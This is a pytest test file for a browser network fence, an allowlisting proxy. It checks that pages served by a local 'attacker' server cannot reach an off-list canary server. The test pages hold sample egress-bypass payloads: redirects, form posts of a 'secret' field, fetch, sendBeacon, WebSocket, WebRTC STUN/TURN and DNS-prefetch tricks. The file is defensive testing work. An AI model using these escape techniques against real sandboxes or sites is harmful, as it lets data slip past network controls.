"""The fence: an allowlist names its ports, and no request of the browser leaves it.

The attacker/canary pattern: an "attacker" server on the allowlist serves pages that
try every way out (redirects of each kind, subresources through same-origin redirects,
WebSockets, meta refresh, script navigation, a form post that a 307 carries on, WebRTC's
STUN and TURN), and a "canary" server off the list counts every TCP connection it gets
(a UDP socket beside it, every datagram). The canary must get none, while allowed
redirects and WebSockets keep working. DNS is checked in Chromium's own net log: it
resolves no name a page chooses.
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import json
import socket
import socketserver
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import anyio
import pytest

from runtime.base.config import BrowserConfig, ObservationConfig
from runtime.base.messages import Action
from runtime.browser import BrowserPool
from runtime.errors import ActionError, NavigationBlocked
from runtime.fence import Allowlist, AllowlistError, Fence
from runtime.session import BrowserSession

pytestmark = [pytest.mark.anyio]

CONFIG = ObservationConfig(style="html")
_WS_GUID = "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"


def test_every_entry_names_its_port() -> None:
    allow = Allowlist.from_urls(["http://127.0.0.1:8001/shop", "localhost:9000", "https://a.b"])
    assert allow.allows("http://127.0.0.1:8001/x?y=1")
    assert not allow.allows("http://127.0.0.1:8002/")
    assert allow.allows("http://LOCALHOST:9000/") and allow.allows("ws://localhost:9000/ws")
    assert not allow.allows("http://localhost/")  # port 80 was not named
    assert allow.allows("https://a.b/") and not allow.allows("http://a.b/")
    assert allow.describe() == "127.0.0.1:8001, a.b:443, localhost:9000"
    for bad, why in (
        ("127.0.0.1", "names no port"),
        ("localhost", "names no port"),
        ("127.0.0.1:99999", "port that is not 1-65535"),
        ("http://127.0.0.1:0/", "port that is not 1-65535"),
        ("127.0.0.1:http", "port that is not 1-65535"),
        ("http://", "names no host"),
    ):
        with pytest.raises(AllowlistError, match=why):
            Allowlist.from_urls(["http://127.0.0.1:8001/", bad])


def test_denied_pairs_always_lose() -> None:
    allow = Allowlist.from_urls(
        ["http://127.0.0.1:8001/", "http://localhost:8002/", "http://h.example:8003/"],
        denied=[("127.0.0.1", 8001), ("127.0.0.1", 8002), ("0.0.0.0", 8003)],
    )
    assert not allow.allows("http://127.0.0.1:8001/")
    assert not allow.allows("http://localhost:8002/")  # another spelling of loopback
    assert not allow.allows_address("::1", 8002)
    assert not allow.allows("http://h.example:8003/")  # a wildcard bind: every host
    assert allow.is_denied("127.0.0.5", 8001) and not allow.is_denied("127.0.0.1", 8009)


class _Canary(socketserver.ThreadingTCPServer):
    """Counts every connection; answers each with a tiny page."""

    daemon_threads = True
    allow_reuse_address = True

    def __init__(self) -> None:
        self.hits = 0
        self.lock = threading.Lock()
        super().__init__(("127.0.0.1", 0), _CanaryHandler)


class _CanaryHandler(socketserver.BaseRequestHandler):
    def handle(self) -> None:
        server = self.server
        assert isinstance(server, _Canary)
        with server.lock:
            server.hits += 1
        self.request.settimeout(2)
        try:
            self.request.recv(65536)
            self.request.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\ncanary")
        except OSError:
            return


def _pages(canary: str, udp_port: int) -> dict[str, str]:
    canary_ws = canary.replace("http://", "ws://")
    canary_host = canary.removeprefix("http://")
    settle = """
      const tries = [];
      const add = (p) => tries.push(p.then(() => "ok", () => "failed"));
      const load = (tag, attrs) => add(new Promise((ok, no) => {
        const el = document.createElement(tag);
        Object.assign(el, attrs); el.onload = ok; el.onerror = no;
        setTimeout(ok, 3000); document.body.appendChild(el); }));
    """
    return {
        "/": "<!doctype html><title>Attacker</title><p>hello</p>",
        "/landing": "<!doctype html><title>Landing</title><p>redirected here</p>",
        "/meta": f'<!doctype html><meta http-equiv="refresh" content="0;url=/302?to={canary}/m">'
        "<title>Meta</title>",
        "/js": f"<!doctype html><title>JS</title><script>location.href = '/302?to={canary}/js'"
        "</script>",
        "/post": f"""<!doctype html><title>Post</title>
<form id="f" method="post" action="/307?to={canary}/post"><input name="secret" value="s3"></form>
<script>document.getElementById("f").submit()</script>""",
        "/direct-post": f"""<!doctype html><title>Direct</title>
<form id="f" method="post" action="{canary}/direct"><input name="a" value="1"></form>
<script>document.getElementById("f").submit()</script>""",
        "/sub": f"""<!doctype html><title>Sub</title><body><script>
{settle}
add(fetch("/302?to={canary}/fetch"));
add(fetch("/307?to={canary}/fetch-post", {{method: "POST", body: "x=1"}}));
add(fetch("{canary}/fetch-direct", {{mode: "no-cors"}}));
load("img", {{src: "/302?to={canary}/img"}});
load("iframe", {{src: "/302?to={canary}/iframe"}});
load("script", {{src: "/302?to={canary}/script"}});
load("link", {{rel: "stylesheet", href: "/302?to={canary}/css"}});
add(new Promise((ok) => {{
  const es = new EventSource("/302?to={canary}/sse");
  es.onerror = () => {{ es.close(); ok(); }}; setTimeout(ok, 3000); }}));
for (const url of ["{canary_ws}/ws", "ws://" + location.host + "/302?to={canary_ws}/ws"]) {{
  add(new Promise((ok) => {{
    const ws = new WebSocket(url);
    ws.onerror = ok; ws.onclose = ok; setTimeout(ok, 3000); }}));
}}
navigator.sendBeacon("{canary}/beacon", "x");
Promise.all(tries).then((r) => {{ document.title = "done " + r.join(","); }});
</script></body>""",
        # WebRTC's UDP bypasses an HTTP proxy: STUN and TURN servers named by the page.
        "/rtc": f"""<!doctype html><title>RTC</title><script>
const found = [];
const pc = new RTCPeerConnection({{iceServers: [
  {{urls: "stun:127.0.0.1:{udp_port}"}},
  {{urls: "turn:127.0.0.1:{udp_port}?transport=udp", username: "u", credential: "s3"}},
  {{urls: "turn:{canary_host}?transport=tcp", username: "u", credential: "s3"}}]}});
const finish = () => {{ document.title = "done " + found.join(","); }};
pc.onicecandidate = (e) => {{ if (e.candidate) found.push(e.candidate.type); else finish(); }};
pc.createDataChannel("x");
pc.createOffer().then((o) => pc.setLocalDescription(o));
setTimeout(finish, 8000);
</script>""",
        # Host names for Chromium to resolve, by every kind of reference a page has. A
        # DNS query for a name the page chose is a message past the fence.
        "/names": """<!doctype html><title>Names</title>
<link rel="dns-prefetch" href="//hint.fence-canary.example">
<link rel="preconnect" href="http://connect.fence-canary.example">
<link rel="prefetch" href="http://prefetch.fence-canary.example/x">
<a href="http://anchor.fence-canary.example/">a link</a>
<img src="http://img.fence-canary.example/i.png">
<script>
fetch("http://fetch.fence-canary.example/f", {mode: "no-cors"}).catch(() => {});
new WebSocket("ws://ws.fence-canary.example/");
setTimeout(() => { document.title = "done"; }, 2000);
</script>""",
        "/ws-page": """<!doctype html><title>WS</title><script>
const ws = new WebSocket("ws://" + location.host + "/ws");
ws.onmessage = (e) => { document.title = "ws " + e.data; };
ws.onerror = () => { document.title = "ws failed"; };
</script>""",
    }


def _attacker(pages: dict[str, str]) -> ThreadingHTTPServer:
    class Handler(BaseHTTPRequestHandler):
        def _redirect(self) -> bool:
            parts = urlsplit(self.path)
            if parts.path not in ("/302", "/307"):
                return False
            target = parse_qs(parts.query).get("to", ["/landing"])[0]
            self.send_response(int(parts.path[1:]))
            self.send_header("Location", target)
            self.send_header("Content-Length", "0")
            self.end_headers()
            return True

        def do_POST(self) -> None:
            length = int(self.headers.get("Content-Length") or 0)
            self.rfile.read(length)
            if not self._redirect():
                self.send_error(404)

        def do_GET(self) -> None:
            if self._redirect():
                return
            path = urlsplit(self.path).path
            if path == "/ws" and self.headers.get("Upgrade", "").lower() == "websocket":
                key = self.headers["Sec-WebSocket-Key"] + _WS_GUID
                accept = base64.b64encode(hashlib.sha1(key.encode()).digest()).decode()
                self.send_response(101)
                self.send_header("Upgrade", "websocket")
                self.send_header("Connection", "Upgrade")
                self.send_header("Sec-WebSocket-Accept", accept)
                self.end_headers()
                self.wfile.write(b"\x81\x05hello")  # one text frame
                self.wfile.flush()
                self.close_connection = True
                self.connection.settimeout(5)
                with contextlib.suppress(OSError):
                    self.rfile.read(1)
                return
            body = pages.get(path, f"<!doctype html><title>{path}</title>").encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    return server


@dataclass
class Sites:
    attacker: str
    canary: str
    canary_server: _Canary
    udp_canary: socket.socket  # bound on 127.0.0.1, never read but by the test


@pytest.fixture(scope="module")
def sites() -> Iterator[Sites]:
    canary = _Canary()
    canary_url = f"http://127.0.0.1:{canary.server_address[1]}"
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    attacker = _attacker(_pages(canary_url, udp.getsockname()[1]))
    servers: list[socketserver.BaseServer] = [canary, attacker]
    for server in servers:
        threading.Thread(target=server.serve_forever, daemon=True).start()
    yield Sites(f"http://127.0.0.1:{attacker.server_address[1]}", canary_url, canary, udp)
    for server in servers:
        server.shutdown()
        server.server_close()
    udp.close()


def _goto(url: str) -> Action:
    return Action(kind="do", name="Goto", argument=url)


async def _title(session: BrowserSession, prefix: str) -> str:
    """The page's title once the page set one starting with `prefix`."""
    page = session.page
    await page.wait_for_function("(p) => document.title.startsWith(p)", arg=prefix, timeout=15000)
    return await page.title()


@pytest.mark.browser
async def test_no_request_reaches_the_canary(pool: BrowserPool, sites: Sites) -> None:
    async with pool.session(allowed=[sites.attacker]) as session:
        # An allowed redirect and an allowed WebSocket still work through the fence.
        await session.open([f"{sites.attacker}/302?to=/landing"])
        landing = await session.observe(CONFIG)
        assert landing.url == f"{sites.attacker}/landing" and "redirected here" in landing.text
        await session.execute(_goto(f"{sites.attacker}/ws-page"))
        assert await _title(session, "ws ") == "ws hello"

        await session.execute(_goto(f"{sites.attacker}/sub"))
        done = await _title(session, "done")
        assert "failed" in done  # the fetches through a redirect were refused
        for path in ("/302", "/307", "/meta", "/js", "/post", "/direct-post"):
            url = f"{sites.attacker}{path}?to={sites.canary}/nav"
            with contextlib.suppress(ActionError):  # a refused hop may fail the navigation
                await session.execute(_goto(url))
            shown = await session.observe(CONFIG)
            assert "canary" not in shown.text
        with pytest.raises(NavigationBlocked):
            await session.execute(_goto(f"{sites.canary}/start"))
    assert sites.canary_server.hits == 0


@pytest.mark.browser
async def test_webrtc_sends_no_packet_past_the_fence(pool: BrowserPool, sites: Sites) -> None:
    """WebRTC's UDP does not go through the context's proxy: Chromium runs with
    `disable_non_proxied_udp`, so a page gathers no ICE candidate and sends no STUN or
    TURN packet (without the flag: host candidates, and a STUN request at the UDP canary)."""
    async with pool.session(allowed=[sites.attacker]) as session:
        await session.open([f"{sites.attacker}/rtc"])
        assert await _title(session, "done") == "done"  # no candidate at all
    sites.udp_canary.setblocking(False)
    with pytest.raises(BlockingIOError):
        sites.udp_canary.recvfrom(2048)
    assert sites.canary_server.hits == 0


@pytest.mark.browser
async def test_chromium_resolves_no_host_name(sites: Sites, tmp_path: Path) -> None:
    """DNS is a way out too: a query for a name the page chose reaches whatever resolver
    the machine uses. Behind the fence Chromium resolves no name itself (the fence
    resolves the allowed ones); its net log, read after the browser closed, shows a
    resolution of the proxy's own address only. Without the context's proxy this fails:
    Chromium resolves the WebSocket's name (the session's routing refuses the other
    requests before they are made; with neither, it resolved the image's, the prefetch's
    and the fetch's names too). dns-prefetch and preconnect hints resolved nothing even
    then."""
    netlog = tmp_path / "netlog.json"
    config = BrowserConfig(navigation_timeout_s=10.0, extra_args=(f"--log-net-log={netlog}",))
    async with BrowserPool(config) as pool, pool.session(allowed=[sites.attacker]) as session:
        await session.open([f"{sites.attacker}/names"])
        assert await _title(session, "done") == "done"
    log = json.loads(netlog.read_text())
    names = {code: name for name, code in log["constants"]["logEventTypes"].items()}
    resolved = {
        str(event["params"]["host"])
        for event in log["events"]
        if names.get(event["type"], "").startswith("HOST_RESOLVER")
        and "host" in event.get("params", {})
    }
    assert resolved  # the log holds resolutions: the proxy's own address
    assert not [host for host in resolved if "fence-canary" in host], resolved
    assert all("127.0.0.1" in host for host in resolved), resolved


@pytest.mark.browser
async def test_denied_pairs_are_refused_by_the_proxy(pool: BrowserPool, sites: Sites) -> None:
    """`localhost:P` is allowed but 127.0.0.1:P is denied: the proxy refuses it (the
    allowlist check of Goto and routing would let the spelling through)."""
    port = int(sites.canary.rsplit(":", 1)[1])
    async with pool.session(
        allowed=[sites.attacker, f"http://localhost:{port}"], denied=[("127.0.0.1", port)]
    ) as session:
        assert not session.allowlist.allows(f"http://localhost:{port}/")
        await session.open([f"{sites.attacker}/302?to=http://localhost:{port}/x"])
        shown = await session.observe(CONFIG)
        assert "canary" not in shown.text
    assert sites.canary_server.hits == 0


async def test_fence_refuses_and_counts(sites: Sites) -> None:
    """Through the proxy by hand: a refused CONNECT, a refused GET, a forwarded GET."""
    local = sites.attacker.replace("127.0.0.1", "localhost")
    allow = Allowlist.from_urls([sites.attacker, local])
    async with Fence(allow) as fence:
        port = int(fence.url.rsplit(":", 1)[1])
        canary = sites.canary.removeprefix("http://")
        answers = []
        for request in (
            f"CONNECT {canary} HTTP/1.1\r\nHost: {canary}\r\n\r\n",
            f"GET {sites.canary}/x HTTP/1.1\r\nHost: {canary}\r\n\r\n",
            f"GET {sites.attacker}/ HTTP/1.1\r\nHost: x\r\nProxy-Connection: keep-alive\r\n\r\n",
            "GARBAGE\r\n\r\n",
            f"GET {local}/ HTTP/1.1\r\nHost: x\r\n\r\n",  # a name, resolved by the fence
        ):
            async with await anyio.connect_tcp("127.0.0.1", port) as stream:
                await stream.send(request.encode())
                chunks = []
                with anyio.fail_after(10):
                    try:
                        while True:
                            chunks.append(await stream.receive())
                    except anyio.EndOfStream:
                        pass
                answers.append(b"".join(chunks).decode())
        assert (
            answers[0].startswith("HTTP/1.1 403")
            and "not on this episode's allowlist" in (answers[0])
        )
        assert answers[1].startswith("HTTP/1.1 403")
        assert answers[2].startswith("HTTP/1.0 200") or answers[2].startswith("HTTP/1.1 200")
        assert "Connection: close" in answers[2] and "<title>Attacker</title>" in answers[2]
        assert answers[3].startswith("HTTP/1.1 400")
        assert "<title>Attacker</title>" in answers[4]
        stats = fence.statistics()
        assert (stats.refused, stats.forwarded) == (2, 2)
    assert sites.canary_server.hits == 0


def test_pool_deny_adds_an_origin() -> None:
    pool = BrowserPool(BrowserConfig(), denied=[("127.0.0.1", 8765)])
    pool.deny("http://127.0.0.1:34567/v1")
    pool.deny("no-port-here")  # ignored, with a warning: nothing to deny
    assert pool.denied == (("127.0.0.1", 8765), ("127.0.0.1", 34567))
    allow = Allowlist.from_urls(["http://localhost:34567/"], denied=pool.denied)
    assert not allow.allows("http://localhost:34567/")
